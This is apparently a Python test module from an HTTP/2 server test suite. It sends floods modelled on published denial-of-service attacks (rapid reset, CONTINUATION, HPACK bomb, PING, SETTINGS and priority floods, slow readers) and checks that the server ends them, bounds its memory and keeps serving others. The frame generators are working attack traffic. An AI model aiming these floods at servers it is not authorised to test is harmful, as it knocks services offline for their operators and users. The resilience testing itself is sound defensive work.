"""Floods: the shapes of the known denial-of-service attacks on HTTP/2.

Each is judged by the same three: the flood meets an end (GOAWAY of any code, the close, or a server that stops
reading, so that TCP holds the sender back), memory stays bounded (where --pid tells the process), and other connections
are served.
"""

import os
import select
import ssl
import time

from harness import Failed, Target
from http2 import wire
from http2.connection import Connection
from http2.suite import suite

case = suite.group("flood")

MEMORY = 64 << 20
PATIENCE = 3.0


class Flood:
    """Sends without end and notices how the server ends it."""

    def __init__(self, target: Target, reading: bool, *settings: tuple[int, int]):
        self.target, self.reading = target, reading
        self.memory = target.resident_bytes()
        self.c = Connection(target, *settings, receive_buffer=None if reading else 4096)
        self.c.replenish = False
        self.ended: str | None = None
        self.answered = 0

    def send(self, octets: bytes) -> bool:
        """False when the flood is over: closed, GOAWAY, or not read any more."""
        view, stalled = memoryview(octets), time.monotonic()
        self.c.socket.setblocking(False)
        while view and not self.ended:
            readable, writable, _ = select.select([self.c.socket] if self.reading else [], [self.c.socket], [], 0.2)
            if readable:
                self.drain()
            if writable and not self.ended:
                try:
                    view = view[self.c.socket.send(view):]
                    stalled = time.monotonic()
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
                except (ConnectionError, ssl.SSLError) as reason:
                    self.ended = type(reason).__name__
            if time.monotonic() - stalled > PATIENCE:
                self.ended = "the server stopped reading"
        return not self.ended

    def drain(self) -> None:
        try:
            got = self.c.socket.recv(1 << 18)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except (ConnectionError, ssl.SSLError) as reason:
            self.ended = type(reason).__name__
            return
        if not got:
            self.ended = "closed"
        self.c.buffer += got
        while len(self.c.buffer) >= 9:
            length = int.from_bytes(self.c.buffer[:3], "big")
            if len(self.c.buffer) < 9 + length:
                return
            if self.c.buffer[3] == wire.GOAWAY and int.from_bytes(self.c.buffer[13:17], "big") != wire.NO_ERROR:
                self.ended = "GOAWAY " + wire.error_name(int.from_bytes(self.c.buffer[13:17], "big"))
            self.answered += self.c.buffer[3] == wire.PING
            del self.c.buffer[:9 + length]

    def in_step(self, octets: bytes) -> bool:
        """Sends and waits until the server is through with it, so that its stream limit is not what ends the flood."""
        seen, deadline = self.answered, time.monotonic() + self.target.timeout
        going = self.send(octets + wire.ping())
        while going and not self.ended and self.answered == seen:
            if select.select([self.c.socket], [], [], 0.1)[0]:
                self.drain()
            if time.monotonic() > deadline:
                self.ended = "the server does not answer any more"
        return going and not self.ended

    def settle(self) -> None:
        """Gives the server a while to end the connection after the last octet was sent."""
        deadline = time.monotonic() + self.target.timeout
        while not self.ended and time.monotonic() < deadline:
            if select.select([self.c.socket], [], [], 0.1)[0]:
                self.drain()

    def judge(self, must_end: bool = True) -> str:
        grown = (self.target.resident_bytes() or 0) - (self.memory or 0)
        if self.reading:
            self.settle()
        expect_served(self.target)
        if self.memory is not None and grown > MEMORY:
            raise Failed(f"the server's memory grew by {grown >> 20} MiB")
        if must_end and not self.ended:
            raise Failed("the server went through the whole flood without ending it")
        grown_by = f", memory {grown >> 10:+d} KiB" if self.memory is not None else ""
        return f"{self.ended or 'taken to its end'}{grown_by}"


def expect_served(target: Target) -> None:
    began = time.monotonic()
    other = Connection(target)
    other.get(1)
    other.expect_response(1)
    if time.monotonic() - began > target.timeout:
        raise Failed(f"another connection waited {time.monotonic() - began:.1f} s")


def endless(flood: Flood, unit: bytes, total: int) -> None:
    piece = unit * max(1, 65536 // len(unit))
    for _ in range(total // len(piece) + 1):
        if not flood.send(piece):
            return


@case("rapid-reset", "20,000 requests, each reset at once (CVE-2023-44487)", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    request = flood.c.request()
    for first in range(1, 40000, 400):
        batch = b"".join(wire.headers(s, request) + wire.rst_stream(s) for s in range(first, first + 400, 2))
        if not flood.send(batch):
            break
    return flood.judge()


@case("made-you-reset", "20,000 requests that make the server reset them (CVE-2025-8671)", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    request = flood.c.request("POST")
    for first in range(1, 40000, 100):
        batch = b"".join(wire.headers(s, request, end=False) + wire.window_update(s, 0)
                         for s in range(first, first + 100, 2))
        if not flood.in_step(batch):
            break
    return flood.judge()


@case("malformed", "20,000 malformed requests, each a stream error", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    request = flood.c.request() + wire.literal(b"Upper-Case", b"1")
    for first in range(1, 40000, 100):
        if not flood.in_step(b"".join(wire.headers(s, request) for s in range(first, first + 100, 2))):
            break
    return flood.judge()


@case("continuation", "CONTINUATION without end, 16 MiB of fields (CVE-2024-27316 and others)", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    if flood.send(wire.headers(1, flood.c.request(), end_headers=False)):
        endless(flood, wire.continuation(1, wire.literal(b"x-flood", b"x" * 1000), end_headers=False), 16 << 20)
    return flood.judge()


@case("continuation", "100,000 empty CONTINUATIONs", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    if flood.send(wire.headers(1, flood.c.request(), end_headers=False)):
        endless(flood, wire.continuation(1, b"", end_headers=False), 900_000)
    return flood.judge()


@case("headers", "HPACK bomb: 4,000 references to one large entry in each request", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    bomb = flood.c.request() + wire.literal_indexed(b"x-bomb", b"x" * 3900) + wire.indexed(62) * 4000
    for stream in range(1, 400, 2):
        if not flood.in_step(wire.headers(stream, bomb)):
            break
    return flood.judge(must_end=False)


@case("headers", "zero-length field names and values without end (CVE-2019-9516)", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    empty = wire.literal(b"", b"") * 5000
    for stream in range(1, 2000, 2):
        if not flood.in_step(wire.headers(stream, flood.c.request() + empty)):
            break
    return flood.judge(must_end=False)


@case("settings", "SETTINGS without end, acknowledgements unread (CVE-2019-9515)", serial=True)
def _(target: Target):
    flood = Flood(target, False)
    endless(flood, wire.settings((wire.INITIAL_WINDOW_SIZE, 65535)), 32 << 20)
    return flood.judge()


@case("ping", "PING without end, answers unread (CVE-2019-9512)", serial=True)
def _(target: Target):
    flood = Flood(target, False)
    endless(flood, wire.ping(os.urandom(8)), 32 << 20)
    return flood.judge()


@case("reset", "RST_STREAM provoked without end, answers unread (CVE-2019-9514)", serial=True)
def _(target: Target):
    flood = Flood(target, False)
    twice_method = wire.indexed(2) * 2  # malformed in two octets, so that the answers are longer than the questions
    for first in range(1, 2_000_000, 4000):
        if not flood.send(b"".join(wire.headers(s, twice_method) for s in range(first, first + 4000, 2))):
            break
    return flood.judge()


@case("data", "100,000 empty DATA frames (CVE-2019-9518)", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    if flood.send(wire.headers(1, flood.c.request("POST"), end=False)):
        endless(flood, wire.data(1, b""), 900_000)
    return flood.judge()


@case("data", "100,000 DATA frames of padding alone", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    if flood.send(wire.headers(1, flood.c.request("POST"), end=False)):
        endless(flood, wire.data(1, b"", pad=0), 1_000_000)
    return flood.judge()


@case("priority", "200,000 PRIORITY frames that shuffle the tree (CVE-2019-9513)", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    shuffle = b"".join(wire.priority(2 * n + 1, on=2 * ((n * 7) % 100) + 201, exclusive=True) for n in range(100))
    endless(flood, shuffle, 2_800_000)
    return flood.judge(must_end=False)


@case("window", "WINDOW_UPDATE of 1 octet, 200,000 times", serial=True)
def _(target: Target):
    flood = Flood(target, True, (wire.INITIAL_WINDOW_SIZE, 0))
    if flood.send(wire.headers(1, flood.c.request())):
        endless(flood, wire.window_update(0, 1), 2_600_000)
    return flood.judge(must_end=False)


@case("window", "data dribble: 100 requests, their windows opened octet by octet (CVE-2019-9511)", serial=True)
def _(target: Target):
    flood = Flood(target, True, (wire.INITIAL_WINDOW_SIZE, 0))
    streams = range(1, 200, 2)
    if flood.send(b"".join(wire.headers(s, flood.c.request()) for s in streams)):
        endless(flood, b"".join(wire.window_update(s, 1) for s in streams), 500_000)
    return flood.judge(must_end=False)


@case("unknown", "500,000 frames of unknown type", serial=True)
def _(target: Target):
    flood = Flood(target, True)
    endless(flood, wire.frame(0x16), 4_500_000)
    return flood.judge(must_end=False)


@case("slow-reader", "a large window and a client that never reads (CVE-2019-9517)", serial=True)
def _(target: Target):
    flood = Flood(target, False, (wire.INITIAL_WINDOW_SIZE, 2**31 - 1))
    flood.send(wire.window_update(0, 2**31 - 1 - 65535))
    request = flood.c.request()
    for first in range(1, 20000, 100):
        if not flood.send(b"".join(wire.headers(s, request) for s in range(first, first + 100, 2))):
            break
    return flood.judge(must_end=False)


@case("slow-reader", "twenty clients that never read do not stop another", serial=True)
def _(target: Target):
    floods = [Flood(target, False, (wire.INITIAL_WINDOW_SIZE, 2**31 - 1)) for _ in range(20)]
    for flood in floods:
        flood.send(b"".join(wire.headers(s, flood.c.request()) for s in range(1, 180, 2)))
    return floods[0].judge(must_end=False)


@case("connections", "200 connections opened and dropped in mid-frame", serial=True)
def _(target: Target):
    for _ in range(200):
        opened = target.socket(["h2"])
        opened.sendall(wire.PREFACE + wire.settings() + b"\0\xff\xff\0\0")
        opened.close()
    expect_served(target)
